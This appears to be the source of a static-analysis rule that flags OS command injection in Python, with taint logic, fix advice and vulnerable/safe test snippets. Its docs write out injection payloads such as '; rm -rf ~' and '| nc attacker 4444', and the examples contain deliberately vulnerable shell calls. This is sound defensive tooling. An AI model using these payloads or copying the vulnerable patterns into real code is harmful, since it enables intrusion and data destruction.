"""Shell commands built from data: `os.system`, `os.popen`, `subprocess` with `shell=True`, ...

A string handed to a shell is parsed by the shell, so `;`, `|`, `$(...)` in the data run
commands. Constant commands are clean; `shlex.quote` sanitises; data flow sets confidence.
Without a shell, only a tainted *program* (`subprocess.run([prog, ...])`) is reported: a
variable program name of unknown origin is ordinary code, and tainted arguments of a fixed
program are argument injection (CWE-88), a different and far rarer problem. The exception is
a shell named in the argv (`["bash", "-c", script]`): its script is a shell command. The
environment is a source at medium confidence only, so it never makes a program name reportable.
"""

from __future__ import annotations

from tree_sitter import Node

from ..analysis.nodes import argument, is_false, keyword_arg
from ..analysis.sinks import taint_verdict
from ..analysis.taint_tables import SHELL_GUARD
from ..context import Match
from ..model import Category, Confidence, Report, Rule, Severity
from ._shell_argv import argv_items, shell_script

SHELL_CALLS = frozenset(
    {f"os.{name}" for name in ("system", "popen", "popen2", "popen3", "popen4")}
    | {f"{module}.{name}" for module in ("subprocess", "commands") for name in ("getoutput", "getstatusoutput")}
    | {"asyncio.create_subprocess_shell", "popen2.popen2", "popen2.popen3", "platform.popen"}
)
SUBPROCESS = frozenset(f"subprocess.{name}" for name in ("run", "call", "check_call", "check_output", "Popen"))
# The exec/spawn families run a program without a shell: only a tainted program name counts.
EXEC_CALLS = frozenset(
    {f"os.exec{suffix}" for suffix in ("v", "ve", "vp", "vpe", "l", "le", "lp", "lpe")}
    | {f"os.spawn{suffix}" for suffix in ("v", "ve", "vp", "vpe", "l", "le", "lp", "lpe")}
    | {"asyncio.create_subprocess_exec", "os.posix_spawn", "os.posix_spawnp"}
)
_SHELL_FIRST = ("os.", "asyncio.", "subprocess.get", "commands.", "popen2.", "platform.")
_CONSEQUENCE = "the shell runs any command it contains"


def _command(match: Match, name: str) -> Node | None:
    args = match.node("args")
    keyword = "cmd" if name.startswith(_SHELL_FIRST) else "args"
    command = argument(args, 0, keyword)
    # `shell=True` runs only the first item of a list, written in place or assigned first
    # (`cmd = [pip, "install", path]; Popen(cmd, shell=on_windows)`): the rest are the shell's own arguments.
    items = argv_items(match, name, SUBPROCESS) if name in SUBPROCESS else None
    return items[0] if items else command


def _program(match: Match, name: str, argv: list[Node] | None) -> Node | None:
    """The program a no-shell call runs: the first item of the argv, or the lone string."""
    args = match.node("args")
    if name.startswith("os.spawn"):
        return argument(args, 1, "file")
    if name in SUBPROCESS and argv is not None:
        return argv[0] if argv else None
    command = argument(args, 0, "args" if name in SUBPROCESS else None)
    if command is not None and command.type in ("list", "tuple"):
        return command.named_children[0] if command.named_children else None
    return command


def runs_untrusted_command(match: Match) -> Report | None:
    name = match.ctx.qualified_name(match.node("fn")) or ""
    shell = keyword_arg(match.node("args"), "shell")
    if name in SHELL_CALLS or (name in SUBPROCESS and shell is not None and not is_false(shell)):
        return taint_verdict(
            match,
            _command(match, name),
            f"a shell command (`{name}`)",
            environment=True,
            unknown_needs_request=True,
            sanitizers=("shlex.quote", SHELL_GUARD),
            consequence=_CONSEQUENCE,
        )
    argv = argv_items(match, name, SUBPROCESS)
    script = shell_script(argv) if argv else None
    if script is not None:
        return taint_verdict(
            match,
            script[1],
            f"a shell script via `{script[0]}`",
            environment=True,
            unknown_needs_request=True,
            sanitizers=("shlex.quote", SHELL_GUARD),
            consequence=_CONSEQUENCE,
        )
    verdict = taint_verdict(
        match,
        _program(match, name, argv),
        f"the program name of `{name}`",
        environment=True,
        report_unknown=False,
        consequence="the caller chooses which program runs",
    )
    return verdict


RULE = Rule(
    id="os-command-injection",
    title="OS command built from data",
    category=Category.INJECTION,
    cwe=(78,),
    owasp=("A03:2021",),
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    languages=frozenset({"python"}),
    calls=SHELL_CALLS | SUBPROCESS | EXEC_CALLS,
    where=runs_untrusted_command,
    aliases=("B602", "S602", "B605", "S605", "B604", "S604", "B603", "S603", "B609", "S609"),
    message="A shell command built from data runs whatever commands the data contains.",
    docs="""## Why is this bad?
`os.system`, `os.popen`, `subprocess.*(..., shell=True)` and `asyncio.create_subprocess_shell`
pass a string to `/bin/sh`. If any part of that string comes from a user, `; rm -rf ~`,
`| nc attacker 4444` or `$(curl ...)` in it are commands too. A tainted program name
(`subprocess.run([request.args["tool"], ...])`) lets the caller pick the binary.

`subprocess.run(["sh", "-c", "convert " + name])` has no `shell=True` but runs a shell all the
same: the item after `-c` of a `sh`/`bash`/`zsh` argv (`/c` for `cmd`, `-Command` for
PowerShell) is judged as a shell command.

Confidence is high when request data, `input()` or `sys.argv` reaches the command. It is
medium when a piece of a shell command has unknown origin or comes from the environment
(`os.environ`, `os.getenv`): CI jobs and containers can set it, but usually the user running
the program did. Constant commands are not reported. Without a shell only a program name
from request data, `input()` or `sys.argv` is reported; one of unknown origin or from the
environment (`os.path.join(os.environ["ProgramFiles"], "tool.exe")`) is everyday code.

## How to fix
Pass a list of arguments without a shell: `subprocess.run(["ping", "-c", "1", host], check=True)`.
If a shell is unavoidable, quote every piece with `shlex.quote`, and pick programs from an
allow-list (`if tool not in TOOLS: abort(400)`).
""",
    references=(
        "https://cwe.mitre.org/data/definitions/78.html",
        "https://docs.python.org/3/library/subprocess.html#security-considerations",
        "https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html",
    ),
    examples="""
import os
import shlex
import subprocess
import subprocess as sp
import sys
from subprocess import run as sh, Popen
from asyncio import create_subprocess_shell
from flask import Flask, request
app = Flask(__name__)
TOOLS = {"ls", "df"}

@app.post("/ping")
async def ping():
    host = request.form["host"]
    # ruleid: os-command-injection
    os.system("ping -c 1 " + host)
    # ruleid: os-command-injection
    subprocess.run(f"ping -c 1 {host}", shell=True)
    # ruleid: os-command-injection
    sh("nslookup %s" % host, shell=True)
    # ruleid: os-command-injection
    sp.check_output(["dig " + host], shell=True)
    # ruleid: os-command-injection
    await create_subprocess_shell(f"traceroute {host}")
    # ruleid: os-command-injection
    os.popen("whois {}".format(host)).read()
    # ok: os-command-injection
    subprocess.run(["ping", "-c", "1", host], check=True)
    # ok: os-command-injection
    os.system("ping -c 1 " + shlex.quote(host))
    # ok: os-command-injection
    subprocess.run("ls -l /tmp", shell=True)
    tool = request.args.get("tool")
    # ruleid: os-command-injection
    Popen([tool, "--version"])
    if tool not in TOOLS:
        return "no", 400
    # ok: os-command-injection
    Popen([tool, "--version"])

def snarf(cmd):
    # Every call in this file passes a constant command: the helper runs the file's own commands.
    # ok: os-command-injection
    return subprocess.Popen(cmd, shell=True, stdout=subprocess.PIPE).communicate()[0]
def verify_nodejs():
    return snarf("node --version") or snarf(cmd="nodejs --version")
def shell(cmd):
    # ruleid: os-command-injection
    return subprocess.check_output(cmd, shell=True)
def archive(name):
    return shell("tar czf /backups/out.tgz " + name)

def install_package(package_path):
    cmd = [get_pip_path(), "install", "--upgrade", package_path]
    # A list argv: with a shell (Windows needs one for `pip.cmd`) only its first item is the command.
    # ok: os-command-injection
    subprocess.Popen(cmd, stdout=subprocess.PIPE, shell=is_shell_needed())

@app.post("/convert")
def convert():
    cmd = [request.form["tool"], "--in", "upload.png"]
    # ruleid: os-command-injection
    subprocess.Popen(cmd, shell=True)

def backup(target):
    # ruleid: os-command-injection
    os.system(f"tar czf /backups/out.tgz {target}")
    # ok: os-command-injection
    subprocess.run([target, "-v"])
    # ok: os-command-injection
    subprocess.run(f"echo {target}", shell=False)

# ruleid: os-command-injection
os.system("convert " + sys.argv[1] + " out.png")
# ruleid: os-command-injection
subprocess.call("make " + os.environ["TARGET"], shell=True)
# ruleid: os-command-injection
os.execl("/bin/sh", "sh", "-c", sys.argv[1])
# ruleid: os-command-injection
subprocess.run(["sh", "-c", "convert " + sys.argv[1] + " out.png"])
argv = ["/bin/bash", "-lc", f"tar xf {sys.argv[2]}"]
# ruleid: os-command-injection
Popen(argv)
# ok: os-command-injection
subprocess.run(["sh", "-c", "convert in.png out.png"])
# ok: os-command-injection
subprocess.run(["sh", "-c", "convert " + shlex.quote(sys.argv[1])])
# ok: os-command-injection
subprocess.check_output([os.path.join(os.environ["ProgramFiles"], "vswhere.exe"), "-latest"])
import settings
# A constant of another module is of unknown origin here (no inter-module analysis), but
# module-level code that is no request handler runs the program's own settings.
# ok: os-command-injection
subprocess.run(f"git log -n {settings.MAX_COMMITS}", shell=True)
# OWASP Benchmark style: an argv list built with append, a constant condition.
def init(app):
    @app.route("/benchmark/cmdi-00/Case008", methods=["POST"])
    def case008():
        param = request.headers.get("Case008", "")
        num = 86
        bar = param if 7 * 42 - num > 200 else "never"
        args = []
        args.append("sh")
        args.append("-c")
        args.append(f"echo {bar}")
        # ruleid: os-command-injection
        subprocess.run(args)
        quiet = "always" if 7 * 42 - num > 200 else param
        # ok: os-command-injection
        os.system(f"echo {quiet}")
        return "done"
""",
)
